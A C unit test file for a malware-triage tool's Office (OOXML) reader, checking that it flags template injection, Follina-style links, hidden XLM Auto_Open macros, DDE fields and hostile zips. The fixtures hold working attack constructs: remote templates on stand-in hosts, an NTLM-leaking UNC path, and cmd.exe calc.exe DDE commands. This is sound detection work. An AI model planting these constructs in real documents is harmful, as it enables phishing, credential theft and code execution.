/* test_ooxml.c - the OOXML package reader on packages built in the test. */
#include "config.h"

#include "ooxml_fixture.h"
#include "rules.h"

#define CT_DOC "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n" \
	"<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">" \
	"<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>" \
	"<Default Extension=\"xml\" ContentType=\"application/xml\"/>" \
	"<Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/>" \
	"</Types>"
#define RELS_HEAD "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n" \
	"<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
#define REL_NS "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
#define ROOT_RELS_DOC RELS_HEAD "<Relationship Id=\"rId1\" Type=\"" REL_NS \
	"officeDocument\" Target=\"word/document.xml\"/></Relationships>"
#define W_NS "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\""
#define DOC_PLAIN "<?xml version=\"1.0\"?><w:document " W_NS "><w:body><w:p><w:r>" \
	"<w:t>Hello</w:t></w:r></w:p></w:body></w:document>"

/* A docx with one extra rels part / document body. */
static triage_object *
run_docx(fx_env *e, const char *rels_name, const char *rels, const char *doc)
{
	fx_part parts[] = {
		{ "[Content_Types].xml", CT_DOC, 0 },
		{ "_rels/.rels", ROOT_RELS_DOC, 0 },
		{ "word/document.xml", doc ? doc : DOC_PLAIN, 0 },
		{ rels_name ? rels_name : "word/_rels/document.xml.rels",
		  rels ? rels : RELS_HEAD "</Relationships>", 0 },
	};
	return fx_run(e, "t.docx", "ooxml", fx_zip(parts, G_N_ELEMENTS(parts), NULL),
		      triage_ooxml_run);
}

/* attachedTemplate to an http URL in settings.xml.rels: template injection. */
static void
test_template_injection(void **state)
{
	fx_env *e = *state;
	triage_object *o = run_docx(e, "word/_rels/settings.xml.rels",
		RELS_HEAD "<Relationship Id=\"rId1\" Type=\"" REL_NS "attachedTemplate\" "
		"Target=\"http://198.51.100.7/t/normal.dotm\" TargetMode=\"External\"/>"
		"</Relationships>", NULL);
	assert_true(triage_object_fact_bool(o, TF_IS_OFFICE));
	assert_true(triage_object_fact_bool(o, TF_TEMPLATE_INJECTION));
	assert_false(triage_object_fact_bool(o, TF_CORRUPT));
	triage_object_free(&o);

	/* A UNC path to a share is the NTLM-leaking variant. */
	o = run_docx(e, "word/_rels/settings.xml.rels",
		RELS_HEAD "<Relationship Id=\"rId1\" Type=\"" REL_NS "attachedTemplate\" "
		"Target=\"\\\\evil.example\\share\\t.dotx\" TargetMode=\"External\"/>"
		"</Relationships>", NULL);
	assert_true(triage_object_fact_bool(o, TF_TEMPLATE_INJECTION));
	triage_object_free(&o);

	/* The local template every corporate document names is not. */
	o = run_docx(e, "word/_rels/settings.xml.rels",
		RELS_HEAD "<Relationship Id=\"rId1\" Type=\"" REL_NS "attachedTemplate\" "
		"Target=\"file:///C:\\Users\\tanaka\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm\" "
		"TargetMode=\"External\"/></Relationships>", NULL);
	assert_false(triage_object_fact_bool(o, TF_TEMPLATE_INJECTION));
	assert_false(triage_object_fact_bool(o, TF_EXTERNAL_LINK));
	triage_object_free(&o);
}

/* External oleObject / subDocument: external link; Follina: injection too. */
static void
test_external_link(void **state)
{
	fx_env *e = *state;
	triage_object *o = run_docx(e, NULL,
		RELS_HEAD "<Relationship Id=\"rId5\" Type=\"" REL_NS "oleObject\" "
		"Target=\"https://example.org/x/harmless.doc\" TargetMode=\"External\"/>"
		"</Relationships>", NULL);
	assert_true(triage_object_fact_bool(o, TF_EXTERNAL_LINK));
	assert_false(triage_object_fact_bool(o, TF_TEMPLATE_INJECTION));
	triage_object_free(&o);

	o = run_docx(e, NULL,
		RELS_HEAD "<Relationship Id=\"rId1\" Type=\"" REL_NS "subDocument\" "
		"Target=\"http://example.org/chapters/chapter1.docx\" TargetMode=\"External\"/>"
		"</Relationships>", NULL);
	assert_true(triage_object_fact_bool(o, TF_EXTERNAL_LINK));
	assert_false(triage_object_fact_bool(o, TF_TEMPLATE_INJECTION));
	triage_object_free(&o);

	/* A subDocument that is a macro template loads macros. */
	o = run_docx(e, NULL,
		RELS_HEAD "<Relationship Id=\"rId1\" Type=\"" REL_NS "subDocument\" "
		"Target=\"https://example.org/a.dotm?x=1\" TargetMode=\"External\"/>"
		"</Relationships>", NULL);
	assert_true(triage_object_fact_bool(o, TF_TEMPLATE_INJECTION));
	triage_object_free(&o);

	o = run_docx(e, NULL,
		RELS_HEAD "<Relationship Id=\"rId996\" Type=\"" REL_NS "oleObject\" "
		"Target=\"mhtml:https://example.org/RDF842l.html!x-usc:https://example.org/RDF842l.html\" "
		"TargetMode=\"External\"/></Relationships>", NULL);
	assert_true(triage_object_fact_bool(o, TF_EXTERNAL_LINK));
	assert_true(triage_object_fact_bool(o, TF_TEMPLATE_INJECTION));
	triage_object_free(&o);
}

/* Hyperlinks and internal parts are ordinary. */
static void
test_hyperlinks_clean(void **state)
{
	fx_env *e = *state;
	triage_object *o = run_docx(e, NULL,
		RELS_HEAD
		"<Relationship Id=\"rId1\" Type=\"" REL_NS "hyperlink\" Target=\"https://www.example.co.jp/\" TargetMode=\"External\"/>"
		"<Relationship Id=\"rId2\" Type=\"" REL_NS "hyperlink\" Target=\"mailto:info@example.jp\" TargetMode=\"External\"/>"
		"<Relationship Id=\"rId3\" Type=\"" REL_NS "image\" Target=\"media/image1.png\"/>"
		"<Relationship Id=\"rId4\" Type=\"" REL_NS "styles\" Target=\"styles.xml\"/>"
		"</Relationships>", NULL);
	assert_true(triage_object_fact_bool(o, TF_IS_OFFICE));
	assert_false(triage_object_fact_bool(o, TF_EXTERNAL_LINK));
	assert_false(triage_object_fact_bool(o, TF_TEMPLATE_INJECTION));
	assert_false(triage_object_fact_bool(o, TF_DDE));
	assert_false(triage_object_fact_bool(o, TF_CORRUPT));
	assert_int_equal(triage_object_nchildren(o), 0);
	triage_object_free(&o);

	/* ...unless the hyperlink hands off to a protocol handler (Follina). */
	o = run_docx(e, NULL,
		RELS_HEAD "<Relationship Id=\"rId1\" Type=\"" REL_NS "hyperlink\" "
		"Target=\"ms-msdt:/id PCWDiagnostic /skip force\" TargetMode=\"External\"/>"
		"</Relationships>", NULL);
	assert_true(triage_object_fact_bool(o, TF_EXTERNAL_LINK));
	triage_object_free(&o);
}

/* vbaProject.bin becomes a child for the OLE reader; nothing VBA is set here. */
static void
test_vba_child(void **state)
{
	fx_env *e = *state;
	static const char ole[] = "\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1 not really";
	fx_part parts[] = {
		{ "[Content_Types].xml", CT_DOC, 0 },
		{ "_rels/.rels", ROOT_RELS_DOC, 0 },
		{ "word/document.xml", DOC_PLAIN, 0 },
		{ "word/_rels/document.xml.rels", RELS_HEAD "<Relationship Id=\"rId9\" "
		  "Type=\"http://schemas.microsoft.com/office/2006/relationships/vbaProject\" "
		  "Target=\"vbaProject.bin\"/></Relationships>", 0 },
		{ "word/vbaProject.bin", ole, sizeof ole - 1 },
	};
	triage_object *o = fx_run(e, "t.docm", "ooxml",
				  fx_zip(parts, G_N_ELEMENTS(parts), NULL),
				  triage_ooxml_run);
	triage_object *c = fx_child(o, "vbaProject.bin");
	assert_non_null(c);
	assert_string_equal(triage_object_kind(c), "vbaproject");
	assert_int_equal(triage_object_size(c), sizeof ole - 1);
	assert_memory_equal(triage_object_data(c), ole, 8);
	assert_false(triage_object_fact_bool(o, TF_HAS_VBA));
	assert_int_equal(triage_object_fact_int(o, TF_EMBEDDED_OBJECTS), 0);
	triage_object_free(&o);
}

#define CT_XLSM "<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">" \
	"<Override PartName=\"/xl/workbook.xml\" ContentType=\"application/vnd.ms-excel.sheet.macroEnabled.main+xml\"/>" \
	"<Override PartName=\"/xl/macrosheets/sheet1.xml\" ContentType=\"application/vnd.ms-excel.macrosheet+xml\"/>" \
	"</Types>"
#define WB_RELS RELS_HEAD \
	"<Relationship Id=\"rId1\" Type=\"http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet\" Target=\"macrosheets/sheet1.xml\"/>" \
	"<Relationship Id=\"rId2\" Type=\"" REL_NS "worksheet\" Target=\"worksheets/sheet1.xml\"/></Relationships>"
#define MACROSHEET "<?xml version=\"1.0\"?><xm:macrosheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" " \
	"xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\"><sheetData><row r=\"1\"><c r=\"A1\">" \
	"<f>EXEC(&quot;calc.exe&quot;)</f></c></row><row r=\"2\"><c r=\"A2\"><f>HALT()</f></c></row></sheetData></xm:macrosheet>"
#define SHEET_PLAIN "<?xml version=\"1.0\"?><worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">" \
	"<sheetData><row r=\"1\"><c r=\"A1\"><f>SUM(B1:B9)</f></c></row></sheetData></worksheet>"

/* An xlsm with a workbook.xml of the given sheet state and names. */
static triage_object *
run_xlsm(fx_env *e, const char *state_attr, const char *names)
{
	char *wb = g_strdup_printf(
		"<?xml version=\"1.0\"?><workbook xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" "
		"xmlns:r=\"" REL_NS "\"><sheets><sheet name=\"Macro1\" sheetId=\"2\" %s r:id=\"rId1\"/>"
		"<sheet name=\"Sheet1\" sheetId=\"1\" r:id=\"rId2\"/></sheets>%s</workbook>",
		state_attr, names);
	fx_part parts[] = {
		{ "[Content_Types].xml", CT_XLSM, 0 },
		{ "xl/macrosheets/sheet1.xml", MACROSHEET, 0 },
		{ "xl/workbook.xml", wb, 0 },
		{ "xl/_rels/workbook.xml.rels", WB_RELS, 0 },
		{ "xl/worksheets/sheet1.xml", SHEET_PLAIN, 0 },
	};
	triage_object *o = fx_run(e, "t.xlsm", "ooxml",
				  fx_zip(parts, G_N_ELEMENTS(parts), NULL),
				  triage_ooxml_run);
	g_free(wb);
	return o;
}

/* Macro sheet, very hidden, Auto_Open: every XLM fact and an xlm: child. */
static void
test_xlm_hidden_autoexec(void **state)
{
	fx_env *e = *state;
	triage_object *o = run_xlsm(e, "state=\"veryHidden\"",
		"<definedNames><definedName name=\"_xlnm.Auto_Open\" hidden=\"1\">Macro1!$A$1</definedName></definedNames>");
	assert_true(triage_object_fact_bool(o, TF_HAS_XLM));
	assert_true(triage_object_fact_bool(o, TF_XLM_HIDDEN));
	assert_true(triage_object_fact_bool(o, TF_XLM_AUTOEXEC));
	assert_false(triage_object_fact_bool(o, TF_DDE));
	triage_object *c = fx_child(o, "xlm:Macro1");
	assert_non_null(c);
	assert_string_equal(triage_object_kind(c), "xlm");
	assert_true(fx_contains(c, "EXEC("));
	triage_object_free(&o);

	/* Visible and without Auto_Open: XLM only. */
	o = run_xlsm(e, "", "");
	assert_true(triage_object_fact_bool(o, TF_HAS_XLM));
	assert_false(triage_object_fact_bool(o, TF_XLM_HIDDEN));
	assert_false(triage_object_fact_bool(o, TF_XLM_AUTOEXEC));
	triage_object_free(&o);
}

/* Append a BIFF12 record (type < 128, size < 128 here). */
static void
brt(GByteArray *b, guint8 type, const guint8 *data, guint8 len)
{
	g_byte_array_append(b, &type, 1);
	g_byte_array_append(b, &len, 1);
	g_byte_array_append(b, data, len);
}

/* Append an XLWideString. */
static void
wide(GByteArray *b, const char *s)
{
	guint32 n = (guint32)strlen(s);
	guint8 le[4] = { n & 0xFF, (n >> 8) & 0xFF, 0, 0 };
	g_byte_array_append(b, le, 4);
	for (guint32 i = 0; i < n; i++) {
		guint8 c[2] = { (guint8)s[i], 0 };
		g_byte_array_append(b, c, 2);
	}
}

/* .xlsb: BrtBundleSh very hidden + BrtName Auto_Open (builtin, no prefix). */
static void
test_xlsb(void **state)
{
	fx_env *e = *state;
	GByteArray *sh = g_byte_array_new(), *nm = g_byte_array_new();
	GByteArray *wb = g_byte_array_new();
	static const guint8 hs[8] = { 2, 0, 0, 0, 1, 0, 0, 0 };
	g_byte_array_append(sh, hs, 8);
	wide(sh, "rId1");
	wide(sh, "Macro1");
	static const guint8 nmh[9] = { 0x20, 0, 0, 0, 0, 0xFF, 0xFF, 0xFF, 0xFF };
	g_byte_array_append(nm, nmh, 9);
	wide(nm, "Auto_Open");
	static const guint8 begin[1] = { 0 };
	brt(wb, 0x83 & 0x7F, begin, 0); /* some record we do not know */
	/* Record type 156 needs two varint bytes: 0x9C 0x01. */
	guint8 t156[2] = { 0x9C, 0x01 }, szsh = (guint8)sh->len;
	g_byte_array_append(wb, t156, 2);
	g_byte_array_append(wb, &szsh, 1);
	g_byte_array_append(wb, sh->data, sh->len);
	brt(wb, 39, nm->data, (guint8)nm->len);
	fx_part parts[] = {
		{ "[Content_Types].xml", "<Types/>", 0 },
		{ "xl/workbook.bin", (const char *)wb->data, wb->len },
		{ "xl/_rels/workbook.bin.rels", RELS_HEAD "<Relationship Id=\"rId1\" "
		  "Type=\"http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet\" "
		  "Target=\"macrosheets/sheet1.bin\"/></Relationships>", 0 },
		{ "xl/macrosheets/sheet1.bin", "\x00\x01\x02", 3 },
		{ "xl/macrosheets/binaryIndex1.bin", "\x00\x01\x02", 3 },
	};
	triage_object *o = fx_run(e, "t.xlsb", "ooxml",
				  fx_zip(parts, G_N_ELEMENTS(parts), NULL),
				  triage_ooxml_run);
	assert_true(triage_object_fact_bool(o, TF_HAS_XLM));
	assert_true(triage_object_fact_bool(o, TF_XLM_HIDDEN));
	assert_true(triage_object_fact_bool(o, TF_XLM_AUTOEXEC));
	assert_false(triage_object_fact_bool(o, TF_CORRUPT));
	assert_non_null(fx_child(o, "xlm:Macro1"));
	assert_int_equal(triage_object_nchildren(o), 1);
	triage_object_free(&o);
	g_byte_array_free(sh, TRUE);
	g_byte_array_free(nm, TRUE);
	g_byte_array_free(wb, TRUE);
}

/* DDEAUTO split over runs, fldSimple DDE, and fields that are not DDE. */
static void
test_dde_word(void **state)
{
	fx_env *e = *state;
	triage_object *o = run_docx(e, NULL, NULL,
		"<?xml version=\"1.0\"?><w:document " W_NS "><w:body><w:p>"
		"<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>"
		"<w:r><w:instrText xml:space=\"preserve\"> DD</w:instrText></w:r>"
		"<w:r><w:instrText>EAU</w:instrText></w:r>"
		"<w:r><w:instrText xml:space=\"preserve\">TO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\"</w:instrText></w:r>"
		"<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>x</w:t></w:r>"
		"<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p></w:body></w:document>");
	assert_true(triage_object_fact_bool(o, TF_DDE));
	triage_object_free(&o);

	o = run_docx(e, NULL, NULL,
		"<?xml version=\"1.0\"?><w:document " W_NS "><w:body><w:p>"
		"<w:fldSimple w:instr=\" DDE c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc.exe&quot; \"/>"
		"</w:p></w:body></w:document>");
	assert_true(triage_object_fact_bool(o, TF_DDE));
	triage_object_free(&o);

	/* A DDE field inside a header part counts as well; prefix "x:" instead of "w:". */
	o = run_docx(e, "word/header1.xml",
		"<?xml version=\"1.0\"?><x:hdr xmlns:x=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">"
		"<x:p><x:r><x:fldChar x:fldCharType=\"begin\"/></x:r><x:r><x:instrText>ddeauto cmd</x:instrText></x:r>"
		"<x:r><x:fldChar x:fldCharType=\"end\"/></x:r></x:p></x:hdr>", NULL);
	assert_true(triage_object_fact_bool(o, TF_DDE));
	triage_object_free(&o);

	/* PAGE, HYPERLINK, nested fields, and the word DDE in text are not. */
	o = run_docx(e, NULL, NULL,
		"<?xml version=\"1.0\"?><w:document " W_NS "><w:body><w:p>"
		"<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> IF </w:instrText></w:r>"
		"<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> PAGE </w:instrText></w:r>"
		"<w:r><w:fldChar w:fldCharType=\"end\"/></w:r><w:r><w:instrText> = 1 \"DDE\" </w:instrText></w:r>"
		"<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>"
		"<w:fldSimple w:instr=\" HYPERLINK &quot;https://example.jp/&quot; \"/>"
		"<w:r><w:t>DDEAUTO is a Word field</w:t></w:r></w:p></w:body></w:document>");
	assert_false(triage_object_fact_bool(o, TF_DDE));
	assert_false(triage_object_fact_bool(o, TF_EXTERNAL_LINK));
	assert_false(triage_object_fact_bool(o, TF_CORRUPT));
	triage_object_free(&o);
}

/* INCLUDEPICTURE / INCLUDETEXT / IMPORT / LINK to a URL or share: external link. */
static void
test_include_fields(void **state)
{
	fx_env *e = *state;
	static const char *const remote[] = {
		" INCLUDEPICTURE \"http://example.com/tracking.png\" \\* MERGEFORMATINET ",
		" INCLUDETEXT \"\\\\198.51.100.9\\share\\a.docx\" ",
		" LINK Word.Document \"https://test.invalid/cmd.docx\" ",
		" import http://example.net/exploit.wmf ",
	};
	for (size_t i = 0; i < G_N_ELEMENTS(remote); i++) {
		char *doc = g_strdup_printf("<?xml version=\"1.0\"?><w:document " W_NS "><w:body><w:p>"
			"<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>%s</w:instrText></w:r>"
			"<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p></w:body></w:document>", remote[i]);
		triage_object *o = run_docx(e, NULL, NULL, doc);
		if (!triage_object_fact_bool(o, TF_EXTERNAL_LINK))
			fail_msg("not an external link: %s", remote[i]);
		assert_false(triage_object_fact_bool(o, TF_DDE));
		triage_object_free(&o);
		g_free(doc);
	}
	triage_object *o = run_docx(e, NULL, NULL,
		"<?xml version=\"1.0\"?><w:document " W_NS "><w:body><w:p>"
		"<w:fldSimple w:instr=\" INCLUDEPICTURE &quot;C:\\\\pics\\\\logo.png&quot; \\* MERGEFORMAT \"/>"
		"<w:fldSimple w:instr=\" HYPERLINK &quot;http://example.jp/&quot; \"/></w:p></w:body></w:document>");
	assert_false(triage_object_fact_bool(o, TF_EXTERNAL_LINK));
	triage_object_free(&o);
}

/* Excel: ddeLink in an external link part, and cmd|' /c ...'!A1 formulas. */
static void
test_dde_excel(void **state)
{
	fx_env *e = *state;
	fx_part parts[] = {
		{ "[Content_Types].xml", "<Types/>", 0 },
		{ "xl/workbook.xml", "<workbook><sheets/></workbook>", 0 },
		{ "xl/externalLinks/externalLink1.xml",
		  "<externalLink xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">"
		  "<ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc.exe\"><ddeItems/></ddeLink></externalLink>", 0 },
	};
	triage_object *o = fx_run(e, "t.xlsx", "ooxml",
				  fx_zip(parts, G_N_ELEMENTS(parts), NULL),
				  triage_ooxml_run);
	assert_true(triage_object_fact_bool(o, TF_DDE));
	triage_object_free(&o);

	fx_part parts2[] = {
		{ "[Content_Types].xml", "<Types/>", 0 },
		{ "xl/worksheets/sheet1.xml",
		  "<worksheet><sheetData><row><c r=\"A1\"><f>cmd|' /c calc.exe'!A1</f></c></row></sheetData></worksheet>", 0 },
	};
	o = fx_run(e, "t.xlsx", "ooxml", fx_zip(parts2, G_N_ELEMENTS(parts2), NULL),
		   triage_ooxml_run);
	assert_true(triage_object_fact_bool(o, TF_DDE));
	triage_object_free(&o);

	/* A '|' inside a string literal is just text. */
	fx_part parts3[] = {
		{ "[Content_Types].xml", "<Types/>", 0 },
		{ "xl/worksheets/sheet1.xml",
		  "<worksheet><sheetData><row><c r=\"A1\"><f>CONCAT(&quot;a|'b&quot;,B1)</f></c>"
		  "<c><v>x|'y</v></c></row></sheetData></worksheet>", 0 },
	};
	o = fx_run(e, "t.xlsx", "ooxml", fx_zip(parts3, G_N_ELEMENTS(parts3), NULL),
		   triage_ooxml_run);
	assert_false(triage_object_fact_bool(o, TF_DDE));
	triage_object_free(&o);
}

/* Embedded objects and ActiveX become children and are counted; chart data is not counted. */
static void
test_embeddings(void **state)
{
	fx_env *e = *state;
	fx_part parts[] = {
		{ "[Content_Types].xml", CT_DOC, 0 },
		{ "word/document.xml", DOC_PLAIN, 0 },
		{ "word/_rels/document.xml.rels", RELS_HEAD
		  "<Relationship Id=\"rId1\" Type=\"" REL_NS "oleObject\" Target=\"embeddings/oleObject1.bin\"/>"
		  "<Relationship Id=\"rId2\" Type=\"" REL_NS "package\" Target=\"embeddings/Microsoft_Word_Document.docx\"/>"
		  "<Relationship Id=\"rId3\" Type=\"" REL_NS "chart\" Target=\"charts/chart1.xml\"/>"
		  "</Relationships>", 0 },
		{ "word/charts/_rels/chart1.xml.rels", RELS_HEAD
		  "<Relationship Id=\"rId1\" Type=\"" REL_NS "package\" Target=\"../embeddings/Microsoft_Excel_Worksheet.xlsx\"/>"
		  "</Relationships>", 0 },
		{ "word/embeddings/oleObject1.bin", "\xD0\xCF\x11\xE0 ole", 0 },
		{ "word/embeddings/Microsoft_Word_Document.docx", "PK\x03\x04 zip", 0 },
		{ "word/embeddings/Microsoft_Excel_Worksheet.xlsx", "PK\x03\x04 chart", 0 },
		{ "word/activeX/activeX1.bin", "\xD0\xCF\x11\xE0 ax", 0 },
		{ "word/activeX/activeX1.xml", "<ax:ocx xmlns:ax=\"x\"/>", 0 },
		{ "word/media/image1.png", "\x89PNG", 0 },
	};
	triage_object *o = fx_run(e, "t.docx", "ooxml",
				  fx_zip(parts, G_N_ELEMENTS(parts), NULL),
				  triage_ooxml_run);
	assert_int_equal(triage_object_fact_int(o, TF_EMBEDDED_OBJECTS), 3);
	triage_object *c = fx_child(o, "oleObject1.bin");
	assert_non_null(c);
	assert_string_equal(triage_object_kind(c), "embedded");
	assert_true(triage_object_fact_bool(c, TF_IS_EMBEDDED));
	assert_non_null(fx_child(o, "Microsoft_Word_Document.docx"));
	assert_non_null(fx_child(o, "activeX1.bin"));
	assert_non_null(fx_child(o, "Microsoft_Excel_Worksheet.xlsx"));
	assert_null(fx_child(o, "image1.png"));
	assert_null(fx_child(o, "activeX1.xml"));
	assert_int_equal(triage_object_nchildren(o), 4);
	triage_object_free(&o);

	/* max_embedded stops adding objects and says so. */
	e->lim.max_embedded = 1;
	o = fx_run(e, "t.docx", "ooxml", fx_zip(parts, G_N_ELEMENTS(parts), NULL),
		   triage_ooxml_run);
	assert_true(triage_object_fact_bool(o, TF_LIMIT_EXCEEDED));
	assert_string_equal(triage_object_fact_str(o, TF_LIMIT_NAME), "max_embedded");
	assert_int_equal(triage_object_nchildren(o), 2); /* 1 object + chart data */
	triage_object_free(&o);
}

/* Garbage, truncated zips and encrypted entries are recorded, never fatal. */
static void
test_hostile_zip(void **state)
{
	fx_env *e = *state;
	triage_object *o = fx_run(e, "g.docx", "ooxml",
				  triage_blob_new_copy("PK\x03\x04garbage garbage", 19),
				  triage_ooxml_run);
	assert_true(triage_object_fact_bool(o, TF_CORRUPT));
	assert_string_equal(triage_object_fact_str(o, TF_UNSCANNED), "corrupt");
	triage_object_free(&o);

	o = fx_run(e, "empty.docx", "ooxml", triage_blob_new_empty(), triage_ooxml_run);
	assert_true(triage_object_fact_bool(o, TF_CORRUPT));
	triage_object_free(&o);

	/* Cut a good package in half: the central directory is gone. */
	fx_part parts[] = {
		{ "[Content_Types].xml", CT_DOC, 0 },
		{ "word/document.xml", DOC_PLAIN, 0 },
	};
	triage_blob *b = fx_zip(parts, G_N_ELEMENTS(parts), NULL);
	triage_blob *half = triage_blob_new_copy(triage_blob_data(b), triage_blob_size(b) / 2);
	triage_blob_unref(&b);
	o = fx_run(e, "half.docx", "ooxml", half, triage_ooxml_run);
	assert_true(triage_object_fact_bool(o, TF_CORRUPT));
	triage_object_free(&o);

	o = fx_run(e, "enc.docx", "ooxml", fx_zip(parts, G_N_ELEMENTS(parts), "secret"),
		   triage_ooxml_run);
	assert_true(triage_object_fact_bool(o, TF_ENCRYPTED));
	assert_string_equal(triage_object_fact_str(o, TF_UNSCANNED), "encrypted");
	triage_object_free(&o);

	/* More members than allowed. */
	e->lim.max_members = 1;
	o = fx_run(e, "many.docx", "ooxml", fx_zip(parts, G_N_ELEMENTS(parts), NULL),
		   triage_ooxml_run);
	assert_true(triage_object_fact_bool(o, TF_LIMIT_EXCEEDED));
	assert_string_equal(triage_object_fact_str(o, TF_LIMIT_NAME), "max_members");
	triage_object_free(&o);
}

/* Huge, deeply nested and malformed XML: bounded, no crash, recorded. */
static void
test_hostile_xml(void **state)
{
	fx_env *e = *state;
	/* 2 MB of nesting in document.xml, with a DDE field deep inside. */
	GString *deep = g_string_new("<?xml version=\"1.0\"?><w:document " W_NS ">");
	for (int i = 0; i < 200000; i++)
		g_string_append(deep, "<w:p>");
	g_string_append(deep, "<w:fldSimple w:instr=\"DDE cmd\"/>");
	for (int i = 0; i < 200000; i++)
		g_string_append(deep, "</w:p>");
	g_string_append(deep, "</w:document>");
	triage_object *o = run_docx(e, NULL, NULL, deep->str);
	assert_true(triage_object_fact_bool(o, TF_DDE));
	assert_false(triage_object_fact_bool(o, TF_CORRUPT));
	triage_object_free(&o);

	/* Past max_object_size the part is cut and the limit recorded. */
	e->lim.max_object_size = 64 * 1024;
	o = run_docx(e, NULL, NULL, deep->str);
	assert_true(triage_object_fact_bool(o, TF_LIMIT_EXCEEDED));
	assert_string_equal(triage_object_fact_str(o, TF_LIMIT_NAME), "max_object_size");
	triage_object_free(&o);
	e->lim.max_object_size = e->cfg->limits.max_object_size;
	g_string_free(deep, TRUE);

	/* Malformed rels: corrupt, but what came before the error still counts. */
	o = run_docx(e, NULL,
		RELS_HEAD "<Relationship Id=\"rId1\" Type=\"" REL_NS "attachedTemplate\" "
		"Target=\"https://example.org/t.dotm\" TargetMode=\"External\"/><Relationship <<<>>>", NULL);
	assert_true(triage_object_fact_bool(o, TF_CORRUPT));
	assert_true(triage_object_fact_bool(o, TF_TEMPLATE_INJECTION));
	triage_object_free(&o);

	/* Invalid UTF-8, NUL bytes, undefined entities, DOCTYPE: no crash. */
	static const char bad[] = "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY a \"&a;&a;\">]>"
		"<w:document " W_NS "><w:body>\xFF\xFE\x00\x80&a;<w:instrText>DDE x</w:instrText></w:body></w:document>";
	fx_part parts[] = {
		{ "[Content_Types].xml", "\xEF\xBB\xBF<Types><Override PartName=\"/word/document.xml\"", 0 },
		{ "word/document.xml", bad, sizeof bad - 1 },
		{ "word/_rels/document.xml.rels", "\xFF\xFE<\0R\0/\0>\0", 10 },
	};
	o = fx_run(e, "bad.docx", "ooxml", fx_zip(parts, G_N_ELEMENTS(parts), NULL),
		   triage_ooxml_run);
	assert_true(triage_object_fact_bool(o, TF_IS_OFFICE));
	assert_true(triage_object_fact_bool(o, TF_CORRUPT));
	triage_object_free(&o);
}

/* The shipped rules turn the facts into findings of the right categories. */
static void
test_rules(void **state)
{
	fx_env *e = *state;
	YR_RULES *rules = NULL;
	YR_SCANNER *sc = NULL;
	size_t n = 0;
	char err[1024];
	assert_int_equal(yr_initialize(), ERROR_SUCCESS);
	if (triage_rules_compile(th_rules_dir(), &rules, &n, err, sizeof err) != TRIAGE_OK)
		fail_msg("rules: %s", err);
	assert_int_equal(yr_scanner_create(rules, &sc), ERROR_SUCCESS);
	triage_object *o = run_docx(e, NULL,
		RELS_HEAD "<Relationship Id=\"rId1\" Type=\"" REL_NS "attachedTemplate\" "
		"Target=\"https://example.org/t.dotm\" TargetMode=\"External\"/>"
		"<Relationship Id=\"rId2\" Type=\"" REL_NS "oleObject\" "
		"Target=\"https://example.org/x.doc\" TargetMode=\"External\"/></Relationships>",
		"<?xml version=\"1.0\"?><w:document " W_NS "><w:fldSimple w:instr=\"DDEAUTO a b\"/></w:document>");
	assert_int_equal(triage_rules_scan_object(sc, o, 10, err, sizeof err), TRIAGE_OK);
	bool inj = false, link = false, dde = false;
	for (size_t i = 0; i < triage_object_nfindings(o); i++) {
		const triage_finding *f = triage_object_finding(o, i);
		inj |= strcmp(f->category, "office-template-injection") == 0 && f->severity == TRIAGE_SEV_HIGH;
		link |= strcmp(f->category, "office-external-link") == 0 && f->severity == TRIAGE_SEV_MEDIUM;
		dde |= strcmp(f->category, "office-dde") == 0 && f->severity == TRIAGE_SEV_HIGH;
	}
	assert_true(inj);
	assert_true(link);
	assert_true(dde);
	triage_object_free(&o);
	yr_scanner_destroy(sc);
	yr_rules_destroy(rules);
	yr_finalize();
}

static int
setup(void **state)
{
	*state = fx_env_new();
	return 0;
}

static int
teardown(void **state)
{
	fx_env_free(*state);
	return 0;
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_setup_teardown(test_template_injection, setup, teardown),
		cmocka_unit_test_setup_teardown(test_external_link, setup, teardown),
		cmocka_unit_test_setup_teardown(test_hyperlinks_clean, setup, teardown),
		cmocka_unit_test_setup_teardown(test_vba_child, setup, teardown),
		cmocka_unit_test_setup_teardown(test_xlm_hidden_autoexec, setup, teardown),
		cmocka_unit_test_setup_teardown(test_xlsb, setup, teardown),
		cmocka_unit_test_setup_teardown(test_dde_word, setup, teardown),
		cmocka_unit_test_setup_teardown(test_include_fields, setup, teardown),
		cmocka_unit_test_setup_teardown(test_dde_excel, setup, teardown),
		cmocka_unit_test_setup_teardown(test_embeddings, setup, teardown),
		cmocka_unit_test_setup_teardown(test_hostile_zip, setup, teardown),
